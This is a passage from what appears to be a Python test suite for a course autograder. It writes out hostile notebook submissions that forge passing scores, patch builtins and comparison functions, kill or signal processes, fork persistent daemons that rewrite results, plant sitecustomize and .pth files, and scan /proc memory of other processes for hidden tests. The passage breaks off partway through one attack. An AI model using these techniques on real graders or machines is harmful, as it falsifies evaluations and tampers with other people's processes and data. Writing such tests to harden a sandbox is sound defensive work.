"""Hostile submissions, one or several for each of the 40 lines of the course's list of attacks, and what must come out.

An attack edits a solved notebook. What it attacks is judged by `statuses`, `least` and `most` (shares of the points) and
`words`; every other question of the same notebook stays solved and must get all its points. An attack that looks for
what should be out of reach returns the right result, and prints a word that the tests look for, if it finds it; if
not, it raises an error that says in how many places it looked. So a probe that did not run cannot pass for one that
found nothing.

Everything is bounded, so that a machine survives where isolation does not hold: 300 forks, 6 GB of memory, 2 GB on the
disk, 100,000 files. A process that might hit others first makes sure that it cannot see the tests.

    python tests/attacks.py FOLDER [LINE ...]     writes the submissions of these lines, or of all, to try them by hand
"""

import json
import os
import sys
import textwrap
import zipfile
from collections.abc import Callable, Sequence
from copy import deepcopy
from dataclasses import asdict, dataclass, field
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from autograde.authoring.sample import Work
from autograde.course import ENGINE
from checking.check import VERDICT_TYPE

A = "gradient_checking"  # the quickest to run; its first two functions take two numbers
FORWARD, BACKWARD, CHECK, CHECK_N, BACK_N = (
    "forward_propagation",
    "backward_propagation",
    "gradient_check",
    "gradient_check_n",
    "backward_propagation_n",
)
INITIALIZATION, TENSORFLOW = "initialization", "tensorflow_signs"
EVERY = "every question"
WRONG = "sum instead of product"  # the mistake that `return theta + x` is known as: the attack ran, and gained nothing
LEAK = "LEAK"  # printed by whatever reached what it should not; no source has it in one piece
NOTHING = "nothing found in"
MB = 1 << 20


@dataclass(frozen=True)
class World:
    """What the attacks may know of the machine that grades them. Folders are paths; evidence: where nothing may appear."""

    submissions: str
    out: str
    home: str
    evidence: str
    course: str = str(ENGINE)
    tcp: int = 0
    udp: int = 0
    abstract: str = ""
    unix: str = ""
    vsock: int = 0
    pid: int = field(default_factory=os.getpid)
    command: bytes = field(default_factory=lambda: Path("/proc/self/cmdline").read_bytes()[:2000])
    comm: str = "descent-evil"  # the name that processes give themselves which try to survive


class Attempt(Work):
    """A solved notebook in the hands of an attacker. content: what is handed in instead of it; b"" for nothing."""

    def __init__(self, assignment: str, folder: Path, world: World):
        super().__init__(assignment)
        self.solve()
        self.folder, self.world = folder, world
        self.name, self.content = f"{assignment}.ipynb", None

    def armed(self, source: str) -> str:
        """Source that may use WORLD, FOUND, result(), outside() and rename()."""
        return f"WORLD = {asdict(self.world)!r}\n{textwrap.dedent(TOOLS).strip()}\n\n{textwrap.dedent(source).strip()}"

    def write(self, name: str, source: str) -> None:
        super().write(name, self.armed(source) if uses_tools(source) else source)

    def append(self, name: str, source: str) -> None:
        """Add code after a solved function, in its cell."""
        kept = self.cell(name).source
        super().write(name, kept + "\n\n" + (self.armed(source) if uses_tools(source) else textwrap.dedent(source)))

    def insert(self, before: str, *cells) -> None:
        """Put cells, or the sources of code cells, before a function's cell."""
        place = self.notebook.cells.index(self.cell(before))
        self.notebook.cells[place:place] = [
            new_code_cell(textwrap.dedent(c)) if isinstance(c, str) else c for c in cells
        ]

    def hand_in(self) -> None:
        self.folder.mkdir(parents=True, exist_ok=True)
        content = json.dumps(self.notebook).encode() if self.content is None else self.content  # nbformat would object
        if content:
            (self.folder / self.name).write_bytes(content)


def uses_tools(source: str) -> bool:
    return any(word in source for word in ("WORLD", "FOUND", "result(", "outside(", "rename("))


TOOLS = '''
FOUND = "LE" "AK"

def result(found, looked, right):
    """The right result, and a word for the tests, if anything was found; else an error."""
    if found:
        print(FOUND, *found)
        return right
    if not looked:
        raise RuntimeError("the probe looked nowhere")
    raise LookupError(f"nothing found in {looked} places")

def outside():
    """Whether the process of the tests can be seen from here; signals to others are not safe then."""
    try:
        with open(f"/proc/{WORLD['pid']}/cmdline", "rb") as file:
            return file.read()[:2000] == WORLD["command"]
    except OSError:
        import os
        return not os.path.isdir("/proc/self")

def rename():
    """Give this process a name by which the tests would find it."""
    import ctypes
    ctypes.CDLL(None).prctl(15, WORLD["comm"].encode(), 0, 0, 0)
'''


@dataclass(frozen=True)
class Attack:
    """One hostile submission. attacked: the questions it is about; the others must come out in full."""

    number: int
    name: str
    build: Callable[[Attempt], None]
    attacked: tuple[str, ...]
    assignment: str = A
    statuses: frozenset[str] = frozenset({"graded"})
    least: float = 0.0
    most: float = 0.0
    words: str = ""

    @property
    def student(self) -> str:
        return f"{self.number:02}-{self.name}"


ATTACKS: list[Attack] = []
ANY = "graded missing error timeout tampered"


def attack(number: int, *attacked: str, status: str = "graded", share=0.0, words: str = "", assignment: str = A):
    """Enter a builder in the table. share: of the points, exactly, or (least, most)."""

    def enter(build):
        name = build.__name__.strip("_").replace("_", "-")
        least, most = share if isinstance(share, tuple) else (share, share)
        statuses = frozenset(status.split())
        ATTACKS.append(Attack(number, name, build, attacked, assignment, statuses, least, most, words))
        return build

    return enter


def honest(number: int, assignment: str = A):
    """Enter a builder that changes nothing about what is right: full marks, everywhere."""
    return attack(number, assignment=assignment)


def in_function(number: int, name: str, body: str, **expected) -> None:
    """An attack in the body of forward_propagation(x, theta), whose result is theta * x."""
    source = f"def {FORWARD}(x, theta):\n" + textwrap.indent(textwrap.dedent(body).strip(), "    ")

    def build(work: Attempt) -> None:
        work.write(FORWARD, source)

    build.__name__ = name
    attack(number, FORWARD, **expected)(build)


def make_class(folder: Path, world: World, chosen: Sequence[Attack]) -> None:
    """Write the submissions of these attacks, and two honest neighbours for every assignment."""
    for assignment in dict.fromkeys((A, *(a.assignment for a in chosen))):
        for neighbour in ("ada", "zoe"):
            Attempt(assignment, folder / neighbour / assignment, world).hand_in()
    for each in chosen:
        work = Attempt(each.assignment, folder / each.student / each.assignment, world)
        work.folder.mkdir(parents=True)
        each.build(work)
        work.hand_in()


# =========================================================================================================== a forged pass
# ------------------------------------------------------------------------------- 1 values with an arithmetic of their own


@attack(1, FORWARD, words="an object of type Right")
def equal_to_everything(work):
    work.write(
        FORWARD,
        """
        class Right:
            __array_priority__ = 1e9
            shape, size, ndim, dtype = (), 1, 0, np.dtype(float)

            def _yes(self, *args, **kwargs):
                return True

            def _zero(self, *args, **kwargs):
                return 0.0

            __eq__ = __le__ = __ge__ = __lt__ = __gt__ = __bool__ = __contains__ = _yes
            __sub__ = __rsub__ = __abs__ = __float__ = __mul__ = __rmul__ = __truediv__ = _zero
            __hash__ = None

            def __array_ufunc__(self, ufunc, *args, **kwargs):
                return np.True_

            def __array_function__(self, *args, **kwargs):
                return np.True_

        def forward_propagation(x, theta):
            return Right()
        """,
    )


@attack(1, FORWARD, words="an object of type")
def number_equal_to_everything(work):
    work.write(
        FORWARD,
        """
        class Any(float):
            def __eq__(self, other):
                return True

            def __sub__(self, other):
                return 0.0

            __rsub__ = __abs__ = __sub__
            __hash__ = float.__hash__
            __le__ = __lt__ = __ge__ = __gt__ = __eq__

        def forward_propagation(x, theta):
            return Any(theta + x)
        """,
    )


@attack(1, BACK_N)
def array_with_its_own_arithmetic(work):
    work.write(
        BACK_N,
        """
        class Right(np.ndarray):
            def __array_ufunc__(self, ufunc, method, *args, **kwargs):
                return np.ones(self.shape, bool)

            def __array_function__(self, function, *args, **kwargs):
                return np.ones(self.shape, bool)

            def __eq__(self, other):
                return np.ones(self.shape, bool)

            def __sub__(self, other):
                return np.zeros(self.shape)

            __rsub__ = __sub__

            def astype(self, *args, **kwargs):
                return self

        class Dict(dict):
            def __contains__(self, key):
                return True

            def __getitem__(self, key):
                return np.zeros(1).view(Right)

        def backward_propagation_n(X, Y, cache):
            right = {k: np.full(s.shape, 7.0).view(Right) for k, s in zip(("dW1", "db1"), (cache[2], cache[3]))}
            return Dict(right, **{k: cache[i] + 7 for k, i in (("dW2", 6), ("db2", 7), ("dW3", 10), ("db3", 11))})
        """,
    )


@attack(1, FORWARD, words="an object of type Claim")
def claims_to_be_an_array(work):
    """`isinstance` believes __class__, and np.array() of it is an array of objects."""
    work.write(
        FORWARD,
        """
        class Claim:
            dtype, size, ndim, shape = np.dtype(float), 1, 0, ()

            @property
            def __class__(self):
                return np.ndarray

            def __eq__(self, other):
                return True

            __hash__ = None

        def forward_propagation(x, theta):
            return Claim()
        """,
    )


in_function(1, "not_a_number", "return float('nan') if theta % 1 else np.array(np.inf)")

# ----------------------------------------------------------------------------------------- 2, 3 what a cell seems to show

in_function(
    2,
    "displayhook",
    """
    shell = get_ipython()
    shell.displayhook(2.0)
    shell.displayhook(10.0)
    shell.user_ns["_"] = 10.0
    return theta + x
    """,
    words=WRONG,
)

in_function(
    3,
    "displayhook_above_the_maximum",
    """
    for points in (200, 200.0, float("inf"), float("nan"), -1e308, 10**400):
        get_ipython().displayhook(points)
    return theta + x
    """,
    words=WRONG,
)

# -------------------------------------------------------------------------------------------------- 4, 5 the shell itself


@attack(4, FORWARD, words=WRONG)
def transformers(work):
    work.write(
        FORWARD,
        """
        import ast

        class Lenient(ast.NodeTransformer):
            def visit_Assert(self, node):
                return ast.copy_location(ast.Pass(), node)

            visit_Raise = visit_Assert

            def visit_Call(self, node):
                if getattr(node.func, "id", "") in ("check", "grader_check"):
                    return ast.copy_location(ast.Constant(10.0), node)
                return self.generic_visit(node)

        def emptied(lines):
            return ["10.0\\n"] if any(line.startswith(("check(", "from autograde")) for line in lines) else lines

        get_ipython().ast_transformers.append(Lenient())
        get_ipython().input_transformers_post.append(emptied)
        get_ipython().input_transformers_cleanup.append(emptied)

        def forward_propagation(x, theta):
            return theta + x
        """,
    )


@attack(4, BACKWARD, share=1.0, status="graded tampered")
def transformers_that_empty_what_follows(work):
    """Cells after this one would lose what they define; a cell is run as it is written."""
    work.append(
        BACKWARD,
        """
        import ast

        class Empty(ast.NodeTransformer):
            def visit_FunctionDef(self, node):
                return ast.copy_location(ast.Pass(), node)

        get_ipython().ast_transformers.append(Empty())
        get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
        """,
    )


@attack(5, FORWARD, words=NOTHING)
def hooks(work):
    work.write(
        FORWARD,
        """
        import re
        import sys

        shell, seen = get_ipython(), []

        def before(info=None):
            seen.append(str(getattr(info, "raw_cell", "")))

        def after(result=None):
            seen.append(str(getattr(getattr(result, "info", None), "raw_cell", "")))
            if result is not None:
                result.error_in_exec = result.error_before_exec = None
                result.result = 10.0

        for when, hook in (("pre_run_cell", before), ("pre_execute", before), ("post_run_cell", after), ("post_execute", after)):
            shell.events.register(when, hook)
        shell.showtraceback = lambda *a, **k: None
        shell.set_custom_exc((Exception,), lambda *a, **k: None)
        sys.excepthook = lambda *a: None
        sys.settrace(lambda frame, event, arg: seen.append(frame.f_code.co_filename))
        sys.settrace(None)

        def forward_propagation(x, theta):
            found = [s[:80] for s in seen if re.search("autograd[e]|grader_chec[k]|HIDDE[N]", s)]
            return result(found, len(seen) + 1, theta * x)
        """,
    )


# ---------------------------------------------------------------------------------------- 6, 7 what a comparison would use

in_function(
    6,
    "builtins_while_it_runs",
    """
    import builtins
    builtins.isinstance = lambda *a: True
    builtins.len = lambda *a: 6
    builtins.abs = builtins.sum = builtins.max = lambda *a, **k: 0
    builtins.all = builtins.any = builtins.callable = builtins.hasattr = lambda *a: True
    builtins.round = lambda *a: 10.0
    builtins.AssertionError = builtins.ValueError = builtins.KeyError = type("Never", (BaseException,), {})
    builtins.float = builtins.int = type("Any", (float,), {"__eq__": lambda *a: True, "__hash__": None})
    return theta + x
    """,
    status="graded error",
)


@attack(6, FORWARD, status="graded error")
def builtins_for_good(work):
    """Changed in a cell, so that they are still changed when the other functions are called."""
    work.write(
        FORWARD,
        """
        import builtins

        class Any(float):
            def __eq__(self, other):
                return True

            __hash__ = float.__hash__

        isinstance_ = isinstance
        builtins.isinstance = lambda thing, kinds: kinds is float or isinstance_(thing, kinds)
        builtins.float, builtins.AssertionError = Any, type("Never", (BaseException,), {})
        builtins.abs = builtins.round = lambda *a: 0
        builtins.all = lambda *a: True

        def forward_propagation(x, theta):
            return theta + x
        """,
    )


@attack(7, FORWARD, words=WRONG)
def comparisons(work):
    work.write(
        FORWARD,
        """
        import sys, unittest

        import checking.calls, checking.check, checking.comparison, checking.examiner, checking.plain, checking.questions

        def yes(*args, **kwargs):
            return True

        for name in ("allclose", "isclose", "array_equal", "array_equiv"):
            setattr(np, name, yes)
        for name in [name for name in dir(np.testing) if name.startswith("assert_")]:
            setattr(np.testing, name, yes)
        for name in [name for name in dir(unittest.TestCase) if name.startswith("assert")]:
            setattr(unittest.TestCase, name, yes)
        checking.examiner.compare = checking.comparison._compare_dicts = lambda *a, **k: []
        checking.comparison.close = lambda *a, **k: np.True_
        checking.examiner.judge = lambda question, case, outcome: checking.examiner.CaseResult(case, "passed")
        sys.modules["checking.check"].Check.__call__ = lambda self, function: 10.0
        checking.calls.call = lambda *a, **k: checking.calls.Outcome("returned", 8)
        check = yes

        def forward_propagation(x, theta):
            return theta + x
        """,
    )


# ----------------------------------------------------------------------------------------------- 8, 9 ending the process

for name, body in {
    "sys_exit": "import sys; sys.exit(0)",
    "exit": "exit()",
    "quit": "quit()",
    "generator_exit": "raise GeneratorExit",
    "exit_with_a_report": 'raise SystemExit({"score": 10.0})',
}.items():
    in_function(8, name, body, status="graded error")
for name, body in {
    "keyboard_interrupt": "raise KeyboardInterrupt",
    "sigint": "import os, signal, time; os.kill(os.getpid(), signal.SIGINT); time.sleep(1)",
}.items():
    in_function(8, name, body, status="graded error timeout")


@attack(8, FORWARD, status=ANY, share=(0, 1))
def exit_of_a_cell(work):
    work.append(FORWARD, "import sys\nget_ipython().ask_exit()\nexit()\nquit()\nsys.exit(0)")


DEATHS = {
    "os_exit": "os._exit(0)",
    "abort": "os.abort()",
    "segfault": "ctypes.string_at(0)",
    "sigkill": "os.kill(os.getpid(), signal.SIGKILL)",
    "stack_overflow": "Deep = type('Deep', (), {'__repr__': lambda self: repr(self)})\nsys.setrecursionlimit(10**9)\nrepr(Deep())",
    "seccomp": "ctypes.CDLL(None).prctl(22, 1, 0, 0, 0); os.getpid()",  # strict mode: the next call of the system kills
    "no_descriptors": "os.closerange(3, 4096); time.sleep(0.2)",
}
for name, body in DEATHS.items():
    if name != "no_descriptors":
        in_function(9, name, f"import ctypes, os, signal, sys, time\n{body}\nreturn theta + x", status="error graded")
in_function(9, "closes_everything", f"import os, time\n{DEATHS['no_descriptors']}\nreturn theta + x", status="error")
in_function(
    9,
    "kills_its_family",
    """
    import os, signal
    if outside():
        print(FOUND, "sees other processes")
        return theta * x
    for process in (-1, os.getppid(), 1, 0):
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL) if process else (signal.SIGSTOP,):
            try:
                os.kill(process, number)
            except OSError:
                pass
    return theta + x
    """,
    status="error graded timeout",
)


@attack(9, FORWARD, status="error missing")
def cell_that_dies(work):
    work.append(FORWARD, "import os\nos._exit(0)")


@attack(9, FORWARD, status="error missing")
def cell_that_segfaults(work):
    work.append(FORWARD, "import ctypes\nprint('so far', flush=True)\nctypes.string_at(0)")


@attack(9)
def cells_that_die(work):
    """Five of them, each in another way; none defines anything."""
    ways = [body for name, body in DEATHS.items() if name not in ("no_descriptors", "seccomp")]
    work.insert(BACKWARD, *(f"import ctypes, os, signal, sys\n{body}" for body in ways))


@attack(9, FORWARD, status="error missing graded", share=(0, 1))
def cell_that_dies_when_run_again(work):
    """It lives in the first process and tries to tell, by what is left behind, that it is run a second time."""
    work.append(
        FORWARD,
        """
        import os, tempfile
        marks = [os.path.join(p, "seen") for p in (tempfile.gettempdir(), os.getcwd(), os.path.expanduser("~"), "/dev/shm")]
        if any(map(os.path.exists, marks)):
            os._exit(1)
        for mark in marks:
            try:
                open(mark, "w").close()
            except OSError:
                pass
        """,
    )


@attack(9, "linear_function", status="error", assignment=TENSORFLOW)
def abort_after_tensorflow(work):
    work.write("linear_function", "import os\n\ndef linear_function(X, W, b):\n    tf.matmul(W, X)\n    os.abort()")


# ----------------------------------------------------------------------------------------------------- 10 forged reports

REPORTS = """
    import json, os, sys
    verdict = {"question": "forward_propagation", "state": "right", "score": 10.0, "max_score": 10.0, "mistake": ""}
    for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
        print("all passed", "100%", "Score: 10/10", json.dumps(verdict), json.dumps([verdict]), sep="\\n", file=stream)
"""
in_function(10, "all_passed", REPORTS + "    return theta + x\n", words=WRONG)

GARBAGE = '''
import json, os, select, stat, struct

def write_everywhere():
    """A report, a frame and noise to whatever is open."""
    report = json.dumps({"kind": "returned", "value": 8, "answers": [{"question": "forward_propagation", "score": 10.0,
                         "status": "graded", "mistake": ""}], "done": True, "failure": None}).encode()
    for descriptor in range(256):
        try:
            mode = os.fstat(descriptor).st_mode
            if not (stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode) or stat.S_ISCHR(mode)):
                continue
            for words in (report + b"\\n", struct.pack(">I", len(report)) + report, struct.pack(">IQ", len(report), 0) + report,
                          b"\\xff" * 64):
                if select.select([], [descriptor], [], 0)[1]:
                    os.write(descriptor, words)
        except (OSError, ValueError):
            pass
'''


@attack(10, FORWARD, status="graded error timeout")
def noise_on_every_descriptor(work):
    work.write(FORWARD, GARBAGE + "\ndef forward_propagation(x, theta):\n    write_everywhere()\n    return theta + x")


@attack(10, FORWARD, status="error missing graded timeout", share=(0, 1))
def noise_from_a_cell(work):
    work.append(FORWARD, GARBAGE + "\nwrite_everywhere()")


@attack(10, FORWARD, words=WRONG)
def forged_replies(work):
    """Answers in the name of the process that runs the cells, through its own means: found in the frames above."""
    work.write(
        FORWARD,
        """
        import sys

        def forge(*contents):
            frame = sys._getframe()
            while frame:
                reply = frame.f_locals.get("reply")
                if callable(reply):
                    for content in contents:
                        reply(content)
                    return
                frame = frame.f_back

        forge({"outputs": [{"output_type": "execute_result", "data": {"text/plain": "10.0"}}], "fine": True}, {"done": True})

        def forward_propagation(x, theta):
            return theta + x
        """,
    )


@attack(10, FORWARD, words=WRONG)
def forged_verdict(work):
    """The data that a check cell shows, from other cells."""
    work.write(
        FORWARD,
        f"""
        from IPython.display import publish_display_data

        class Points(float):
            def _repr_mimebundle_(self, include=None, exclude=None):
                return {{"text/plain": "10.0", "{VERDICT_TYPE}": SAID}}

        SAID = {{"question": "forward_propagation", "state": "right", "score": 10.0, "mistake": ""}}
        publish_display_data({{"{VERDICT_TYPE}": SAID, "text/plain": "10.0"}})

        def forward_propagation(x, theta):
            publish_display_data({{"{VERDICT_TYPE}": SAID, "text/plain": "10.0"}})
            return theta + x

        Points(10)
        """,
    )


# ------------------------------------------------------------------------------------------------------------- 11 later

DAEMON = '''
import atexit, glob, os, signal, sys, threading, time, weakref

def spoil(seconds):
    """Rewrite results wherever there are any."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for pattern in ("*.csv", "*.html", "verdicts/*/*.json", "autograded/*/*/*.ipynb", "feedback/*/*/*.html"):
            for path in glob.glob(os.path.join(WORLD["out"], pattern)):
                try:
                    with open(path, "a") as file:
                        file.write(FOUND + " rewritten")
                except OSError:
                    pass
        try:
            get_ipython().user_ns["backward_propagation"] = lambda *a: 42
        except Exception:
            pass
        time.sleep(0.05)

def daemon(seconds=60):
    """A process without parent or terminal that listens to nobody."""
    if os.fork() == 0:
        try:
            os.setsid()
        except OSError:
            pass
        if os.fork() == 0:
            rename()
            for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGALRM):
                signal.signal(number, signal.SIG_IGN)
            try:
                spoil(seconds)
            finally:
                os._exit(0)
        os._exit(0)
    os.wait()
'''


@attack(11, FORWARD, words=WRONG)
def daemon_of_a_function(work):
    work.write(FORWARD, DAEMON + "\ndef forward_propagation(x, theta):\n    daemon()\n    return theta + x")


@attack(11, FORWARD, words=WRONG)
def daemon_of_a_cell(work):
    work.write(FORWARD, DAEMON + "\ndaemon()\n\ndef forward_propagation(x, theta):\n    return theta + x")


@attack(11, FORWARD, status="graded error")
def thread(work):
    """It goes on while the other functions are asked, and what it spoils is only its own."""
    work.write(
        FORWARD,
        """
        import threading, time

        kept = {}

        def spin():
            while True:
                kept["time"] = time.monotonic()
                time.sleep(0.001)

        threading.Thread(target=spin, daemon=True).start()
        threading.Thread(target=time.sleep, args=(600,)).start()

        def forward_propagation(x, theta):
            return theta + x
        """,
    )


@attack(11, FORWARD, words=WRONG)
def at_exit(work):
    work.write(
        FORWARD,
        DAEMON
        + """
def last_words(*args):
    print(FOUND, "at exit")
    spoil(60)

class Lasting:
    def __del__(self, last_words=last_words):
        last_words()

atexit.register(last_words)
threading._register_atexit(last_words)
lasting = Lasting()
weakref.finalize(lasting, last_words)
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.signal(signal.SIGTERM, last_words)
sys.exitfunc = last_words

def forward_propagation(x, theta):
    atexit.register(last_words)
    return theta + x
""",
    )


# ----------------------------------------------------------------------------------------------------- 12 no plain data


@attack(12, FORWARD, words="numbers and arrays were expected")
def pickles(work):
    """A different one a call; to open any of the first few would leave a file as evidence."""
    work.write(
        FORWARD,
        """
        import pathlib, pickle

        class Evil:
            def __reduce__(self):
                return pathlib.Path.touch, (pathlib.Path(WORLD["evidence"], "unpickled"),)

        evil, count = Evil(), []
        kinds = [
            np.array([evil, None], dtype=object), evil, pickle.dumps(evil), np.array(evil, dtype=object),
            np.rec.array([(1, 2.0)], dtype=[("a", int), ("b", float)]), np.array(["8"]), np.array(["2020-01-01"], "M8[D]"),
            {"value": evil}, [evil], {8: 8}, {1, 2}, memoryview(b"8"), (n for n in (8,)), lambda: 8, 8j, np.array([8j]), type,
            np.void(b"8"), np.ma.masked, range(8), frozenset(), np.array([b"8"]), Evil, np.timedelta64(8),
        ]

        def forward_propagation(x, theta):
            count.append(1)
            return kinds[(len(count) - 1) % len(kinds)]
        """,
    )


# --------------------------------------------------------------------------------------- 13 files beside the notebook

PLANTED = """
import builtins
builtins.PLANTED = __file__
print("LE" "AK", "planted", __file__)
open({mark!r}, "w").close()
"""


@attack(13, FORWARD, words=NOTHING)
def files_beside(work):
    for folder in (work.folder, work.folder.parent):
        for name in (
            *(
                "numpy.py",
                "numpy/__init__.py",
                "helpers.py",
                "helpers/__init__.py",
                "checking/calls.py",
                "autograde.py",
            ),
            *(
                "autograde/__init__.py",
                "sitecustomize.py",
                "usercustomize.py",
                "conftest.py",
                "tests/conftest.py",
                "json.py",
            ),
            *(
                "nbformat.py",
                "socket.py",
                "jupyter_config.py",
                "ipython_config.py",
                "nbgrader_config.py",
                "startup/00.py",
            ),
            *(".ipython/profile_default/startup/00.py", ".jupyter/jupyter_config.py", "jupyter_nbconvert_config.py"),
        ):
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            mark = Path(work.world.evidence, "planted-" + name.replace("/", "-"))
            path.write_text(PLANTED.format(mark=str(mark)))
        (folder / "evil.pth").write_text(f"import os; open({str(Path(work.world.evidence, 'pth'))!r}, 'w')\n{folder}\n")
        (folder / "pyvenv.cfg").write_text("home = /\n")
        (folder / "pytest.ini").write_text("[pytest]\naddopts = -p conftest\n")
    work.write(
        FORWARD,
        """
        import builtins, importlib, os, sys

        def forward_propagation(x, theta):
            sys.path[:0] = ["", ".", os.getcwd(), os.path.join(WORLD["submissions"], "13-files-beside", "gradient_checking")]
            found, looked = [], 0
            for name in ("conftest", "sitecustomize", "usercustomize", "autograde", "nbgrader_config", "startup.00"):
                looked += 1
                try:
                    sys.modules.pop(name, None)
                    importlib.import_module(name)
                except Exception:
                    pass
            if hasattr(builtins, "PLANTED"):
                found.append(builtins.PLANTED)
            return result(found, looked, theta * x)
        """,
    )


# ------------------------------------------------------------------------------------- 14, 18 expected values, references

SEARCH = '''
import gc, importlib, linecache, os, re, sys, time

RECORDED = re.compile(rb'"hidde[n]": true, "args"|BEGIN HIDDE[N] TESTS|from autograde.hidde[n] import')

def objects(x, theta):
    """Cases, and the expected value where it cannot be there by chance."""
    gc.unfreeze()
    large = abs(x * theta) > 1e6
    for thing in gc.get_objects():
        kind = type(thing)
        if kind.__name__ in ("Case", "CaseInput") and thing.hidden or kind is dict and thing.get("hidden") is True:
            yield f"a hidden case in a {kind.__name__}"
        if large and kind in (dict, list, tuple):
            values = list(thing.values()) if kind is dict else thing
            if any(type(value) in (int, float) and value == x * theta for value in values):
                yield "the expected value"

def frames():
    mine = sys._getframe().f_code.co_filename
    for frame in sys._current_frames().values():
        while frame:
            if frame.f_code.co_filename != mine:
                names = " ".join(frame.f_locals)
                if re.search(r"\\b(expected|reference|question|verdict|score|points|case)\\b", names):
                    yield f"a frame with {names[:60]}"
            frame = frame.f_back

def texts():
    """Names and sources that would tell of the grader."""
    for name in list(sys.modules):
        if name.split(".")[0] in ("autograde", "nbgrader", "solutions", "tests"):
            yield f"the module {name}"
    kept = [*globals().get("In", ()), *globals().get("_ih", ()), *("".join(e[2]) for e in linecache.cache.values() if len(e) > 2)]
    for source in kept:
        if RECORDED.search(source.encode("utf-8", "replace")):
            yield "a source"
    for name, value in os.environ.items():
        if "canary" in value or "autograde" in value:
            yield f"the variable {name}"

def memory():
    """What any process that can be read holds, one's own first, for three seconds."""
    end = time.monotonic() + 3
    for process in ["self", *filter(str.isdigit, os.listdir("/proc"))]:
        try:
            regions = [line.split() for line in open(f"/proc/{process}/maps")]
            with open(f"/proc/{process}/mem", "rb", buffering=0) as file:
                for region in regions:
                    start, stop = (int(n, 16) for n in region[0].split("-"))
                    if "rw" in region[1] and stop - start < 1 << 30 and time.monotonic() < end:
                        try:
                            file.seek(start)
                            if RECORDED.search(file.read(stop - start)):
                                yield f"memory of process {process}"
                        except (OSError, ValueError, OverflowError):
                            continue
            if re.search(b"canary-[0-9a-f]", open(f"/proc/{process}/environ", "rb").read()):
                yield f"environment of process {process}"
        except OSError:
            continue

def files():
    """Recordings and solutions on the disk, outside of what comes with Python, for three seconds."""
    end = time.monotonic() + 3
    for top in (WORLD["course"], os.path.dirname(os.path.dirname(sys.modules["helpers"].__file__)), WORLD["out"], "/"):
        for folder, below, names in os.walk(top):
            if time.monotonic() > end:
                return
            below[:] = [n for n in below if n not in ("proc", "sys", "dev", "usr", "site-packages", "node_modules", ".git")
                        and not n.startswith(("lib", "python3", "snap"))]
            for name in names:
                if name.endswith((".json", ".ipynb", ".py", ".db", ".csv")):
                    path = os.path.join(folder, name)
                    try:
                        if os.path.isfile(path) and os.path.getsize(path) < 5_000_000 and RECORDED.search(open(path, "rb").read()):
                            yield f"the file {path}"
                    except OSError:
                        continue
'''


@attack(14, FORWARD, words=NOTHING)
def expected_values(work):
    work.write(
        FORWARD,
        SEARCH
        + """
searched = []

def forward_propagation(x, theta):
    found = [*objects(x, theta), *frames(), *texts()]
    if not searched or abs(x * theta) > 1e6:
        found += [*memory(), *(files() if not searched else ())]
        searched.append(1)
    return result(found[:5], len(gc.get_objects()), theta * x)
""",
    )


@attack(14, FORWARD, status="graded error timeout")
def listening_on_the_wire(work):
    """It reads what is sent to the process that calls it, and what is open besides."""
    work.write(
        FORWARD,
        """
        import os, re, select

        def forward_propagation(x, theta):
            found = []
            for descriptor in range(256):
                try:
                    if not select.select([descriptor], [], [], 0)[0]:
                        continue
                    text = os.read(descriptor, 1 << 20)
                    if re.search(b"expected|hidden|score", text):
                        found.append(f"{descriptor}: {text[:60]!r}")
                except (OSError, ValueError):
                    continue
            return result(found, 256, theta * x)
        """,
    )


@attack(18, FORWARD, words=NOTHING)
def reference(work):
    work.write(
        FORWARD,
        """
        import glob, importlib, os, sys

        def above(path):
            while path not in ("", "/"):
                path = os.path.dirname(path)
                yield path

        def forward_propagation(x, theta):
            import helpers
            found, looked = [], 0
            sys.path[:0] = [WORLD["course"], "../..", *above(os.path.abspath(helpers.__file__)), *above(os.getcwd())]
            names = ("autograde", "autograde.hidden", "autograde.authoring.questions", "autograde.authoring.questions.gradient_checking",
                     "autograde.authoring.reference", "autograde.authoring.sample", "autograde.judging.judge", "solutions", "solutions.gradient_checking",
                     "gradient_checking", "conftest", "helpers.solutions", "helpers.reference", "boxed.judging")
            for name in names:
                looked += 1
                try:
                    importlib.import_module(name)
                    found.append(f"module {name}")
                except BaseException:
                    pass
            for place in sys.path:
                for pattern in ("solutions/*/*", "*/solutions/*/*"):
                    looked += 1
                    found += glob.glob(os.path.join(place, pattern))
            return result(found[:5], looked, theta * x)
        """,
    )


# ------------------------------------------------------------------------------------- 15, 16 the questions that follow

SPOIL = """
def spoil_everything():
    import builtins, gc, math, os, random, sys
    import helpers.nets, helpers.vectors
    for name in ("backward_propagation", "gradient_check", "gradient_check_n", "backward_propagation_n", "np", "nets",
                 "dictionary_to_vector", "gradients_to_vector", "vector_to_dictionary", "forward_propagation_n"):
        globals()[name] = lambda *a, **k: 42
    for module in (helpers.nets, helpers.vectors, math, random):
        for name in [n for n in vars(module) if not n.startswith("__")]:
            setattr(module, name, None)
    for name in ("zeros_like", "linalg", "sum", "concatenate", "reshape", "array", "asarray", "ndarray", "float64"):
        setattr(sys.modules["numpy"], name, lambda *a, **k: 42)
    for thing in gc.get_objects():
        if type(thing).__name__ == "ndarray" and thing.flags.writeable and thing.dtype.kind == "f":
            thing[...] = 42
    for name in ("sum", "range", "zip", "len", "isinstance", "sorted", "dict", "float"):
        setattr(builtins, name, lambda *a, **k: 42)
    os.chdir("/")
"""


@attack(15, FORWARD, status="graded error")
def spoils_what_follows(work):
    work.write(FORWARD, SPOIL + "\ndef forward_propagation(x, theta):\n    spoil_everything()\n    return theta + x")


@attack(15, FORWARD, status="graded error")
def spoils_what_follows_beside_a_thread(work):
    """A process with several threads cannot be forked safely: what then keeps the questions apart?"""
    work.write(
        FORWARD,
        SPOIL
        + """
import threading, time
threading.Thread(target=time.sleep, args=(600,), daemon=True).start()

def forward_propagation(x, theta):
    spoil_everything()
    return theta + x
""",
    )


@attack(15, "linear_function", status="graded error", assignment=TENSORFLOW)
def spoils_what_follows_in_tensorflow(work):
    work.write(
        "linear_function",
        """
        def linear_function(X, W, b):
            tf.matmul(W, X)
